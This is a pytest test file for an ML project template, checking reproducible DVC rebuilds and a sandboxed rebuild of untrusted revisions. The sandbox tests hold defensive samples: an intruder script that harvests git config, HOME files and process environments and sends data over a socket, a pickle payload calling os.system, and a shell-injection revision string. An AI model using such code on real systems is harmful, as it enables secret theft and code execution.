"""Tier 3: bake, set up, run the project's own tests and lint, then prove that `dvc repro`
rebuilds the same dvc.lock: again in place, and in a fresh clone fed only by the remote."""

import json
import os
import re
import sys
from pathlib import Path

import pytest
import yaml
from conftest import (
    CHOICES,
    TEMPLATE,
    UV,
    bake,
    chosen_model,
    dataset_task,
    model_target,
    row_id,
    run,
)
from interpreters import find_interpreter
from project_setup import MODEL_LIBRARIES

pytestmark = pytest.mark.slow

# The make targets these tests run: the generated CI may call only these (tier 2 checks).
TARGETS_RUN_END_TO_END = {
    "setup",
    "lint",
    "test",
    "repro",
    "params",
    "check-params",
    "check-lock",
    "check-env",
    "pull",
    "status",
    "rebuild",
    "sandbox",
    "field-rebuild",
    "release-list",
    "release",
    "provenance",
    "registry",
    "promote",
    "rollback",
    "check-releases",
    "gc",
    "report",
    "push-records",
    "signing-key",
    "remote-credentials",
    # test_ci.py runs the CI sweep; test_sweep.py the local one.
    "sweep-plan",
    "sweep-point",
    "sweep-collect",
}

# Every demo table but the default one, with every scikit-learn family and every Python among
# them. The default bake (breast_cancer, logreg, 3.11) is not a row, because the tier-3 tests
# that share it already prove the same there: test_registry.py's lifecycle verifies it, and
# its releases and `make rebuild REV=model@v1.0.0` rebuild it MATCH in a fresh clone fed only
# by the remote; test_ci.py's check and reproduce jobs run its `make test`, `make lint` and a
# byte-for-byte rebuild. The bake matrix (tier 2) bakes every Python x remote pair, and
# test_model_families.py trains the other libraries' families on both tasks. The project's
# own tests and lint run here on the regression table (a project's tests do not depend on
# which table of a task it has); the other families' bakes run its model-file tests, and the
# network's bake runs them all.
ROWS = [
    {"dataset": "wine", "model": "hist_gb", "python_version": "3.13", "tests": False},
    {"dataset": "digits", "model": "logreg", "python_version": "3.12", "tests": False},
    {"dataset": "churn", "model": "hist_gb", "python_version": "3.11", "tests": False},
    {"dataset": "diabetes", "model": "random_forest", "python_version": "3.12", "tests": True},
]
assert {row["model"] for row in ROWS} | {"ridge"} == {
    name for name in CHOICES["model"] if name not in MODEL_LIBRARIES
}


class Project:
    """A baked project driven the way its README tells a user to drive it."""

    def __init__(self, path: Path, python: str | None = None):
        self.path = path
        venv_bin = path / ".venv" / "bin"
        self.env = {"PATH": f"{venv_bin}{os.pathsep}{os.environ['PATH']}"}
        if python:
            self.env["UV_PYTHON"] = python

    def make(self, *targets: str, check: bool = True, env: dict | None = None, **kwargs):
        return run(
            ["make", *targets, f"UV={UV}"],
            cwd=self.path,
            check=check,
            env={**self.env, **(env or {})},
            **kwargs,
        )

    def dvc(self, *args: str, check: bool = True, env_extra: dict | None = None):
        env = {**self.env, **(env_extra or {})}
        return run([str(self.path / ".venv/bin/dvc"), *args], cwd=self.path, check=check, env=env)

    def git(self, *args: str):
        return run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args], cwd=self.path
        )

    def lock(self) -> bytes:
        return (self.path / "dvc.lock").read_bytes()

    def status_is_clean(self) -> bool:
        return self.dvc("status", "-q", check=False).returncode == 0


def commit_push_and_rebuild_in_a_clone(project: Project, path: Path, python=None) -> Project:
    """Commit and push what the project produced, then do what a colleague would on another
    checkout: clone, `make setup`, `dvc pull` (clean status), `dvc repro --force`."""
    project.git("add", "-A")
    project.git("commit", "-qm", "Train the model")
    project.dvc("push")
    clone = Project(path, python)
    run(["git", "clone", "-q", str(project.path), str(clone.path)], cwd=path.parent)
    clone.make("setup")
    clone.dvc("pull")
    assert clone.status_is_clean()
    clone.dvc("repro", "--force")
    return clone


def experiment_models(project: Project) -> set[str]:
    """The estimator class (`model._target_`) of every experiment `dvc exp show` lists."""
    shown = json.loads(project.dvc("exp", "show", "--json").stdout)
    return {
        revision["data"]["params"]["params.yaml"]["data"]["model"]["_target_"]
        for baseline in shown
        for experiment in baseline.get("experiments") or []
        for revision in experiment["revs"]
    }


def install_other_threadpoolctl(project: Project) -> tuple[str, str]:
    """Drift the project's environment for real: another threadpoolctl than the lock's.
    Returns (locked version, installed version); `make setup` undoes it."""
    locked = re.search(
        r"^threadpoolctl==(\S+)", (project.path / "requirements.lock").read_text(), re.MULTILINE
    ).group(1)
    other = "3.5.0" if locked != "3.5.0" else "3.6.0"
    python = str(project.path / ".venv" / "bin" / "python")
    run([UV, "pip", "install", "--python", python, f"threadpoolctl=={other}"], cwd=project.path)
    return locked, other


@pytest.mark.parametrize("row", ROWS, ids=[row_id(row)[: row_id(row).rindex("-")] for row in ROWS])
def test_repro_rebuilds_the_same_lock_in_place_and_in_a_fresh_clone(row, tmp_path):
    python = find_interpreter(row["python_version"], UV)
    if python is None:
        pytest.skip(f"no Python {row['python_version']} on this machine, and uv may not download")
    answers = {key: value for key, value in row.items() if key != "tests"}
    slug = f"e2e-{row_id(answers)}".replace("_", "-").replace(".", "")
    path = bake(tmp_path, **answers, project_slug=slug, package_name=slug.replace("-", "_"))
    project = Project(path, python)

    project.make("setup")
    if row["tests"]:
        project.make("test")
        project.make("lint")
        # The machinery's model-file units (library/tests) under this row's Python too: model
        # bytes are what a CPython version could move, and the template's own runs on 3.11.
        units = TEMPLATE / "library" / "tests" / "test_model_file.py"
        pytest_here = [str(path / ".venv/bin/python"), "-m", "pytest", "-q", "-p"]
        run([*pytest_here, "no:cacheprovider", f"--rootdir={tmp_path}", str(units)], cwd=tmp_path)

    project.make("repro")
    first = project.lock()
    assert project.status_is_clean()
    lock = yaml.safe_load(first)
    assert list(lock["stages"]) == ["params", "prepare", "train", "evaluate", "verify"]
    assert json.loads((project.path / "reports" / "verify.json").read_text())["result"] == "match"
    trained = lock["stages"]["train"]["params"]["params.yaml"]["model"]["_target_"]
    assert trained == model_target(row["model"], dataset_task(row["dataset"]))

    # The clone's `dvc repro --force` (every stage rerun from scratch) gives the same lock.
    clone = commit_push_and_rebuild_in_a_clone(project, tmp_path / "clone", python)
    assert clone.lock() == first
    model = yaml.safe_load(first)["stages"]["train"]["outs"][0]["path"]
    assert (clone.path / model).read_bytes() == (project.path / model).read_bytes()


def committed_first_run(path: Path, message: str = "First run") -> Project:
    """A baked project set up, its pipeline run and the result committed, as the README's
    first steps leave it."""
    project = Project(path)
    project.make("setup")
    project.make("repro")
    project.git("add", "-A")
    project.git("commit", "-qm", message)
    return project


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """One set-up project (default answers) for the workflow tests below."""
    return committed_first_run(bake(tmp_path_factory.mktemp("workflow")))


def model_override(project: Project):
    """A numeric key of the configured model file and a new value for it."""
    params = yaml.safe_load((project.path / "params.yaml").read_text())
    family = chosen_model(project.path)
    key = {"logreg": "C", "random_forest": "n_estimators", "hist_gb": "max_iter"}[family]
    return family, key, params["model"][key], params["model"][key] * 2


@pytest.mark.xdist_group("workflow")
def test_conf_edit_stops_repro_until_params_are_recomposed(project):
    family, key, old, new = model_override(project)
    conf = project.path / "conf" / "model" / f"{family}.yaml"
    original = conf.read_text()
    try:
        conf.write_text(original.replace(f"{key}: {old}", f"{key}: {new}"))
        before = project.lock()
        failed = project.dvc("repro", check=False)
        assert failed.returncode != 0
        assert f"model.{key}" in failed.stderr + failed.stdout
        assert "make params" in failed.stderr + failed.stdout
        assert (
            yaml.safe_load(project.lock())["stages"]["train"]
            == yaml.safe_load(before)["stages"]["train"]
        ), "train must not run on a stale params.yaml"

        project.make("params")
        project.make("repro")
        recorded = yaml.safe_load(project.lock())["stages"]["train"]["params"]["params.yaml"]
        assert recorded["model"][key] == new
        assert project.status_is_clean()
    finally:
        conf.write_text(original)
        project.make("params")
        project.make("repro")


@pytest.mark.xdist_group("workflow")
def test_experiments_compose_overrides_and_the_schema_names_bad_keys(project):
    _, key, _, new = model_override(project)
    project.dvc("exp", "run", "-S", f"model.{key}={new}")
    recorded = yaml.safe_load(project.lock())["stages"]["train"]["params"]["params.yaml"]
    assert recorded["model"][key] == new

    wrong_type = project.dvc("exp", "run", "-S", f"model.{key}=abc", check=False)
    assert wrong_type.returncode != 0
    assert f"model.{key}" in wrong_type.stderr + wrong_type.stdout

    typo = project.dvc("exp", "run", "-S", f"model.{key}x=1", check=False)
    assert typo.returncode != 0
    assert f"{key}x" in typo.stderr + typo.stdout
    run(["git", "checkout", "--", "."], cwd=project.path)


def test_demo_bakes_runs_and_reports(tmp_path):
    demo = Path(__file__).resolve().parents[1] / "scripts" / "demo.py"
    result = run([sys.executable, str(demo), str(tmp_path / "demo")], cwd=tmp_path)
    assert "metrics/metrics.json" in result.stdout
    assert "models/model.pkl" in result.stdout
    assert (tmp_path / "demo" / "my-ml-project" / "models" / "model.pkl").is_file()


# ---- verify and rebuild, with real faults ---------------------------------------------


@pytest.fixture(scope="module")
def released(tmp_path_factory):
    """A project with history: v1, then a parameter change committed as v2, data pushed."""
    project = committed_first_run(bake(tmp_path_factory.mktemp("released")), "v1")
    project.git("tag", "v1")
    family, key, old, new = model_override(project)
    conf = project.path / "conf" / "model" / f"{family}.yaml"
    conf.write_text(conf.read_text().replace(f"{key}: {old}", f"{key}: {new}"))
    project.make("params")
    project.make("repro")
    project.git("add", "-A")
    project.git("commit", "-qm", "v2")
    project.make("pull")  # a no-op here; the CI runs it on a fresh clone
    project.dvc("push")
    return project


def restore_committed_state(project: Project) -> None:
    """Put the workspace back to HEAD: tracked files from git, data and models from DVC."""
    run(["git", "checkout", "--", "."], cwd=project.path)
    project.dvc("checkout", "--force")
    assert project.status_is_clean()


def head(project: Project) -> str:
    return run(["git", "rev-parse", "HEAD"], cwd=project.path).stdout.strip()


def rebuild_notes(project: Project, revision: str) -> list[dict]:
    shown = run(["git", "notes", "--ref=reproml", "show", revision], cwd=project.path, check=False)
    return [json.loads(line) for line in shown.stdout.splitlines() if line.strip()]


in_released_group = pytest.mark.xdist_group("released")


@in_released_group
def test_ci_targets_pass_on_a_clean_project_and_rebuild_names_the_edits_it_leaves_out(released):
    """The CI targets pass on the committed project. Then, with an edit to a tracked file and
    a new file in the workspace, `make rebuild` rebuilds what HEAD holds (MATCH), and its
    first and last lines say that those two changes were not part of it."""
    released.make("check-params", "check-lock", "check-env", "status")
    family, key, old, new = model_override(released)
    conf = released.path / "conf" / "model" / f"{family}.yaml"
    conf.write_text(conf.read_text().replace(f"{key}: {old}", f"{key}: {new}"))
    (released.path / "conf" / "model" / "tuned.yaml").write_text(conf.read_text())
    try:
        rebuilt = released.make("--silent", "rebuild")
    finally:
        (released.path / "conf" / "model" / "tuned.yaml").unlink()
        restore_committed_state(released)
    assert "rebuild of HEAD" in rebuilt.stdout and ": MATCH" in rebuilt.stdout
    lines = rebuilt.stdout.splitlines()
    left_out = (
        f"note: 2 uncommitted changes (conf/model/{family}.yaml, conf/model/tuned.yaml) are "
        f"not part of this rebuild of HEAD ({head(released)[:12]})"
    )
    assert lines[0].startswith(left_out), rebuilt.stdout
    assert lines[-1] == lines[0], rebuilt.stdout


@in_released_group
def test_rebuild_of_an_old_tag_matches_and_leaves_the_workspace_alone(released):
    """v1 is a plain tag, not a verified release: the rebuild says what running it means and
    runs nothing until the user names it again (TRUST=v1); then it runs sealed and matches."""
    before_head, before_params = head(released), (released.path / "params.yaml").read_bytes()
    refused = released.make("rebuild", "REV=v1", check=False)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "v1 (" in refused.stderr and "is the tag v1," in refused.stderr
    assert "not a verified release" in refused.stderr and "TRUST=v1" in refused.stderr
    assert "[1/4]" not in refused.stdout  # nothing was fetched, installed or run
    result = released.make("rebuild", "REV=v1", "TRUST=v1")
    assert "rebuild of v1" in result.stdout and ": MATCH" in result.stdout
    assert "UNSEALED" not in result.stdout
    for stage in ("params", "prepare", "train", "evaluate", "verify"):
        assert re.search(rf"^\s+{stage}\s+MATCH$", result.stdout, re.MULTILINE), stage
    assert re.search(
        r"time to reproduce: [\d.]+ s \(fetch .* environment .* compute .* compare .*\), sealed",
        result.stdout,
    )
    assert head(released) == before_head
    assert (released.path / "params.yaml").read_bytes() == before_params
    assert run(["git", "status", "--porcelain"], cwd=released.path).stdout == ""
    assert "rebuild-" not in run(["git", "worktree", "list"], cwd=released.path).stdout
    v1 = run(["git", "rev-parse", "v1"], cwd=released.path).stdout.strip()
    records = rebuild_notes(released, v1)
    assert records[-1]["result"] == "match" and records[-1]["sealed"] is True
    assert set(records[-1]["timings"]) == {"environment", "fetch", "compute", "compare", "total"}


@in_released_group
def test_rebuild_in_a_varied_environment_matches(released):
    hostile = {
        "TZ": "Asia/Kathmandu",
        "LC_ALL": "C.UTF-8",
        "LANG": "C.UTF-8",
        "PYTHONHASHSEED": "31337",
    }
    varied = ("REV=v1", "TRUST=v1", "REBUILD_ARGS=--vary")
    result = released.make("rebuild", *varied, env=hostile, umask=0o002)
    assert ": MATCH" in result.stdout
    v1 = run(["git", "rev-parse", "v1"], cwd=released.path).stdout.strip()
    assert rebuild_notes(released, v1)[-1]["varied_environment"] is True


# What a pushed revision's stage tries, run by `make rebuild`: the parent's .git/config
# through the clone's alternates file and by its path, the user's HOME, every process's
# environment under /proc, the network (a server of the test's, on loopback), and a file
# beside the project. It prints what it found.
INTRUDER = """
import glob, os, pathlib, socket
found = []
def read(path):
    try:
        found.append(pathlib.Path(path).read_text(errors="replace"))
    except OSError:
        pass
alternates = pathlib.Path(".git/objects/info/alternates")
if alternates.is_file():
    read(pathlib.Path(alternates.read_text().strip()).parent / "config")
for path in [{project} + "/.git/config", {home} + "/secret.txt", "~/secret.txt"]:
    read(os.path.expanduser(path))
for path in glob.glob("/proc/*/environ"):
    read(path)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfiltrated")
    found.append("NETWORK-REACHED")
except OSError:
    pass
try:
    pathlib.Path({outside}).write_text("written")
except OSError:
    pass
print("INTRUDER SAW", len(glob.glob("/proc/[0-9]*")), "processes:", " | ".join(found))
"""


@in_released_group
def test_a_pushed_revision_runs_only_when_named_twice_and_then_sealed_finds_no_secret(
    released, tmp_path
):
    """An attacker pushes a branch and an unsigned tag model@v6.6.6 whose first stage runs
    their script. `make rebuild` of either runs nothing until the user names it again. Named
    (TRUST=), it runs sealed: the script finds no .git/config, HOME file, other process's
    environment or network, and writes nothing outside. Unsealed (bubblewrap turned off) the
    same script finds every canary: the test can see a leak."""
    import socket

    canaries = {"GIT-CONFIG-CANARY", "HOME-CANARY", "ENVIRON-CANARY"}
    home = tmp_path / "home"
    home.mkdir()
    (home / "secret.txt").write_text("HOME-CANARY")
    outside = tmp_path / "written-from-the-rebuild"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    released.git("config", "reproml.canary", "GIT-CONFIG-CANARY")
    branch = run(["git", "rev-parse", "--abbrev-ref", "HEAD"], cwd=released.path).stdout.strip()
    paths = {"project": released.path, "home": home, "outside": outside}
    script = INTRUDER.format(port=port, **{key: repr(str(path)) for key, path in paths.items()})
    (released.path / "intruder.py").write_text(script)
    pipeline = yaml.safe_load((released.path / "dvc.yaml").read_text())
    first = next(iter(pipeline["stages"]))
    pipeline["stages"][first]["cmd"] = "python intruder.py && " + pipeline["stages"][first]["cmd"]
    (released.path / "dvc.yaml").write_text(yaml.safe_dump(pipeline, sort_keys=False))
    released.git("checkout", "-qb", "intruder")
    released.git("add", "intruder.py", "dvc.yaml")
    released.git("commit", "-qm", "a pushed revision")
    released.git("tag", "model@v6.6.6")
    released.git("checkout", "-q", branch)
    env = {"HOME": str(home), "AWS_SECRET_ACCESS_KEY": "ENVIRON-CANARY"}
    try:
        for rev, what in (("intruder", "the branch intruder"), ("v6.6.6", "the tag model@v6.6.6")):
            refused = released.make("rebuild", f"REV={rev}", env=env, check=False)
            assert refused.returncode == 2, refused.stdout + refused.stderr
            assert what in refused.stderr and f"TRUST={rev}" in refused.stderr, refused.stderr
            assert "sealed (no network" in refused.stderr
            assert "INTRUDER SAW" not in refused.stdout
        sealed = released.make("rebuild", "REV=v6.6.6", "TRUST=v6.6.6", env=env, check=False)
        said = sealed.stdout + sealed.stderr
        seen = re.search(r"INTRUDER SAW (\d+) processes:(.*)", said)
        assert seen, said  # it ran, sealed
        assert int(seen[1]) < 10, seen[0]  # its own few processes, not the machine's
        assert not any(canary in said for canary in canaries), seen[0]
        assert "NETWORK-REACHED" not in said and not outside.exists()
        with pytest.raises(TimeoutError):
            listener.accept()
        commit = run(["git", "rev-parse", "intruder"], cwd=released.path).stdout.strip()
        assert rebuild_notes(released, commit)[-1]["sealed"] is True

        unsealed_env = {**env, "REPRO_BWRAP": ""}
        trusted = ("REV=intruder", "TRUST=intruder")
        unsealed = released.make("--silent", "rebuild", *trusted, env=unsealed_env, check=False)
        said = unsealed.stdout + unsealed.stderr
        assert unsealed.stdout.splitlines()[0].startswith("warning: UNSEALED: REPRO_BWRAP"), said
        assert canaries <= set(re.findall(r"[A-Z-]+-CANARY", said)), said
        assert "NETWORK-REACHED" in said and outside.exists()
        assert rebuild_notes(released, commit)[-1]["sealed"] is False

        # A revision that names a program of its own as its interpreter, which uv would run
        # outside the seal while it builds the environment: refused before uv runs.
        ran = tmp_path / "interpreter-ran"
        released.git("checkout", "-qb", "interpreter", "intruder")
        program = released.path / "py" / "bin" / "python3"
        program.parent.mkdir(parents=True)
        program.write_text(f"#!/bin/sh\ntouch {ran}\n")
        program.chmod(0o755)
        (released.path / ".python-version").write_text("./py/bin/python3\n")
        released.git("add", "py", ".python-version")
        released.git("commit", "-qm", "an interpreter of its own")
        released.git("checkout", "-q", branch)
        named = released.make("rebuild", "REV=interpreter", "TRUST=interpreter", check=False)
        assert named.returncode == 2 and not ran.exists(), named.stdout + named.stderr
        assert ".python-version holds './py/bin/python3', not a Python version" in named.stdout
    finally:
        listener.close()
        released.git("config", "--unset", "reproml.canary")
        released.git("tag", "-d", "model@v6.6.6")
        run(["git", "branch", "-D", "intruder", "interpreter"], cwd=released.path, check=False)


def cache_object(project: Project, md5: str) -> Path:
    return project.path / ".dvc" / "cache" / "files" / "md5" / md5[:2] / md5[2:]


def raw_data_md5(project: Project) -> str:
    dvc_file = next((project.path / "data" / "raw").glob("*.dvc"))
    return yaml.safe_load(dvc_file.read_text())["outs"][0]["md5"]


@in_released_group
def test_a_revision_with_shell_syntax_is_a_name_not_a_command(released):
    marker = released.path / "injected"
    result = released.make("rebuild", f"REV=HEAD; touch {marker} #", check=False)
    assert result.returncode != 0, result.stdout + result.stderr
    assert "is not a commit, tag or released version" in result.stderr
    assert not marker.exists()
    # make itself exits 2 on any failure; the command's own code says "could not rebuild".
    direct = run(
        [".venv/bin/python", "-m", "reproml.tools", "rebuild", "no-such-revision"],
        cwd=released.path,
        check=False,
    )
    assert direct.returncode == 2, direct.stdout + direct.stderr


@in_released_group
def test_a_committed_lock_with_another_model_md5_is_a_mismatch(released):
    """The rebuild must recompute dvc.lock, not compare the committed one with itself."""
    lock = yaml.safe_load(released.lock())
    outs = lock["stages"]["train"]["outs"]
    model = next(out for out in outs if out["path"].endswith(".pkl"))
    forged_md5 = "a" * 32
    text = released.lock().decode().replace(model["md5"], forged_md5)
    try:
        (released.path / "dvc.lock").write_text(text)
        released.git("commit", "-qam", "a dvc.lock that the pipeline does not produce")
        result = run(
            [
                ".venv/bin/python",
                "-m",
                "reproml.tools",
                "rebuild",
                "HEAD",
                "--no-record",
            ],
            cwd=released.path,
            check=False,
        )
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"train: out {model['path']} md5 {forged_md5} -> {model['md5']}" in result.stdout
        assert "MISMATCH" in result.stdout
    finally:
        released.git("reset", "-q", "--hard", "HEAD~1")
        restore_committed_state(released)


@in_released_group
def test_a_model_trained_on_another_blas_kernel_is_equivalent_not_mismatched(released):
    """The committed record names another OpenBLAS kernel and CPU level (as a model trained on
    another CI runner would): the bytes differ from this machine's, the predictions and
    metrics do not, so the verdict is EQUIVALENT (exit 3), naming both machines."""
    record_file = released.path / "models" / "model.json"
    record = json.loads(record_file.read_text())
    environment = record["environment"]
    environment["blas"] = [line.rsplit(" ", 1)[0] + " Prescott" for line in environment["blas"]]
    environment["cpu"] = {"vendor": "GenuineIntel", "isa": "x86-64-v2"}
    command = [".venv/bin/python", "-m", "reproml.tools", "rebuild", "HEAD"]
    try:
        record_file.write_text(json.dumps(record, indent=2, sort_keys=True) + "\n")
        released.dvc("commit", "--force")
        released.git("commit", "-qam", "a model trained on another machine")
        result = run([*command, "--no-record"], cwd=released.path, check=False)
        assert result.returncode == 3, result.stdout + result.stderr
        assert "rebuild of HEAD" in result.stdout and "EQUIVALENT" in result.stdout
        assert "x86-64-v2" in result.stdout and "Prescott" in result.stdout
        assert "0 label flips" in result.stdout
        accepted = run([*command, "--no-record", "--accept-equivalent"], cwd=released.path)
        assert accepted.returncode == 0
    finally:
        released.git("reset", "-q", "--hard", "HEAD~1")
        restore_committed_state(released)


@in_released_group
def test_a_corrupted_read_only_cache_object_is_caught(released):
    target = cache_object(released, raw_data_md5(released))
    original, mode = target.read_bytes(), target.stat().st_mode
    try:
        target.chmod(0o644)
        corrupted = bytearray(original)
        corrupted[200] ^= 0x01
        target.write_bytes(bytes(corrupted))
        target.chmod(0o444)
        result = released.make("rebuild", "REV=v1", "TRUST=v1", check=False)
        assert result.returncode != 0
        assert "corrupted" in result.stdout and str(target) in result.stdout
        assert ": MATCH" not in result.stdout
    finally:
        target.chmod(0o644)
        target.write_bytes(original)
        target.chmod(mode)


@in_released_group
def test_data_missing_from_remote_and_cache_is_named(released, tmp_path):
    target = cache_object(released, raw_data_md5(released))
    remote = Path(
        run(
            [str(released.path / ".venv/bin/dvc"), "remote", "list"], cwd=released.path
        ).stdout.split()[1]
    )
    in_remote = remote / "files" / "md5" / target.parent.name / target.name
    moved = [(path, tmp_path / f"{index}") for index, path in enumerate([target, in_remote])]
    try:
        for path, keep in moved:
            path.rename(keep)
        result = released.make("rebuild", "REV=v1", "TRUST=v1", check=False)
        assert result.returncode != 0
        assert "missing from the DVC remote and the local cache" in result.stdout
        assert raw_data_md5(released) in result.stdout
    finally:
        for path, keep in moved:
            keep.rename(path)


@in_released_group
def test_unseeded_randomness_fails_verify_naming_the_model(released):
    train = next(released.path.glob("*/stages/train.py"))
    original = train.read_text()
    try:
        train.write_text(
            original.replace(
                "    model.fit(features, target)",
                "    import numpy as np\n\n"
                "    noise = np.random.default_rng().normal(0, 1e-3, features.shape)\n"
                "    model.fit(features + noise, target)",
            )
        )
        result = released.dvc("repro", check=False)
        output = result.stdout + result.stderr
        assert result.returncode != 0
        assert "failed to reproduce 'verify'" in output
        assert re.search(r"models/model\.pkl\s+strict\s+MISMATCH", output)
        assert "max |Δ|" in output
    finally:
        train.write_text(original)
        restore_committed_state(released)


@in_released_group
def test_a_tampered_model_is_refused_and_its_payload_never_runs(released, tmp_path):
    model = released.path / "models" / "model.pkl"
    original = model.read_bytes()
    marker = tmp_path / "payload-ran"
    payload = (
        b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR."
    )  # pickle protocol 0: os.system("touch <marker>")
    try:
        flipped = bytearray(original)
        flipped[len(flipped) // 2] ^= 0xFF
        for tampered in (bytes(flipped), payload):
            model.chmod(0o644)
            model.write_bytes(tampered)
            result = released.dvc("repro", "--single-item", "--force", "evaluate", check=False)
            assert result.returncode != 0
            assert "refusing to load" in result.stdout + result.stderr
            assert not marker.exists()
    finally:
        restore_committed_state(released)
    assert model.read_bytes() == original


@in_released_group
def test_drift_is_reported_and_training_refuses_until_allowed(released):
    locked, other = install_other_threadpoolctl(released)
    try:
        drifted = released.make("check-env", check=False)
        assert drifted.returncode != 0
        assert f"- threadpoolctl=={locked}" in drifted.stdout
        assert f"+ threadpoolctl=={other}" in drifted.stdout

        refused = released.dvc("repro", "--single-item", "--force", "train", check=False)
        assert refused.returncode != 0
        assert "training refuses to run" in refused.stdout + refused.stderr

        released.dvc("repro", "--force", "verify", env_extra={"REPRO_ALLOW_DRIFT": "1"})
        record = json.loads((released.path / "models" / "model.json").read_text())
        assert f"+ threadpoolctl=={other}" in record["drift"]
        report = json.loads((released.path / "reports" / "verify.json").read_text())
        assert f"+ threadpoolctl=={other}" in report["environment_drift"]
    finally:
        released.make("setup")
        restore_committed_state(released)
    assert released.make("check-env").returncode == 0
